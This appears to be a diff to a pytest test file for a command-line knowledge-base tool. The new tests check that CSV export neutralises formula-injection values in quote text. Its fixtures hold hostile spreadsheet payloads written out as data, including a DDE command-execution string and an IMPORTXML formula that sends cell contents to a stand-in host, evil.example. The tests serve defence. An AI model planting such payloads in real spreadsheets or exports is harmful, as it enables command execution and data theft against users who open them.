@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
 
 import pytest
@@ -25,18 +26,19 @@ HOSTILE = [
     "-2+3",
     "@SUM(1,1)",
     "=1+1 and then a normal sentence",
-    "\t=1",
     " =1+1",  # leading space: LibreOffice's "trim spaces" import turns it into a formula
     "  @SUM(1,1)",
     "\uff1d1+1",  # full-width equals sign
     "-",
 ]
+# Quote text may run over lines, so it can also start with a TAB or a line break (titles are one line).
+HOSTILE_QUOTES = ["\t=1+1", "\n=1+1", "\t@SUM(1,1)", "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")"]
 # Titles that must come out unchanged: ordinary text, and text that is only a number.
 BENIGN = ["Xi and Putin meet in Moscow", "Hội nghị thượng đỉnh SCO tại Samarkand", "1-2 March talks", "A = B, said the minister", "-1.5", "+3", "2e6"]
 TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
 
-FACTS = '''facts:
+EXTRA = '''facts:
 - id: trade-change-number
   metric: Change in trade, as a number
   value: -1.5
@@ -54,7 +56,11 @@ FACTS = '''facts:
   value: "=1+1"
   source: art
   excerpt: Hai bên đã gặp nhau.
-'''
+quotes:
+''' + "".join(
+    f"- id: quote-{i}\n  speaker: bob\n  date: \"2021-01-{i + 1:02d}\"\n  text: {json.dumps(text)}\n  source: art\n"
+    for i, text in enumerate(HOSTILE_QUOTES + ["Chúng tôi là bạn"])
+)
 
 
 @pytest.fixture(scope="module")
@@ -62,7 +68,7 @@ def hostile_kb(tmp_path_factory):
     titles = HOSTILE + BENIGN
     events = [{"id": f"event-{i:02d}", "date": f"2020-{1 + i // 28:02d}-{1 + i % 28:02d}", "title": t} for i, t in enumerate(titles)]
     people = [{"id": "ann", "name": "=cmd|' /C calc'!A0"}, {"id": "bob", "name": "Bob Sample"}]
-    return write_kb(tmp_path_factory.mktemp("csv"), events, people=people, extra=FACTS)
+    return write_kb(tmp_path_factory.mktemp("csv"), events, people=people, extra=EXTRA)
 
 
 def rows(text: str) -> list[list[str]]:
@@ -85,6 +91,7 @@ LISTINGS = {
     "timeline --format csv": ("timeline", "--format", "csv"),
     "timeline -f csv --group year": ("timeline", "-f", "csv", "--group", "year"),
     "people --csv": ("people", "--csv"),
+    "quote --csv": ("quote", "--csv"),
     "facts --csv": ("facts", "--csv"),
     "search --csv": ("search", "SUM", "--csv"),
     "export -f csv": ("export", "-f", "csv"),
@@ -114,6 +121,15 @@ def test_hostile_titles_get_a_quote_and_raw_keeps_them(cli, hostile_kb, args):
     for rid, title in titles.items():
         assert safe[rid] == ("'" + title if title in HOSTILE else title), (rid, title)
     assert {t for t in titles.values()} == set(HOSTILE + BENIGN)
+
+
+def test_hostile_quotes_get_a_quote_mark_and_raw_keeps_them(cli, hostile_kb):
+    texts = {q["id"]: q["text"] for q in cli("--data", hostile_kb, "quote", "--json").json()}
+    assert set(HOSTILE_QUOTES) <= set(texts.values())
+    safe = {row[0]: row[3] for row in rows(cli("--data", hostile_kb, "quote", "--csv").stdout)[1:]}
+    raw = {row[0]: row[3] for row in rows(cli("--data", hostile_kb, "quote", "--csv", "--csv-raw").stdout)[1:]}
+    assert raw == texts
+    assert safe == {rid: ("'" + t if t in HOSTILE_QUOTES else t) for rid, t in texts.items()}
 
 
 def test_export_file_and_stdout_agree(cli, hostile_kb, tmp_path):
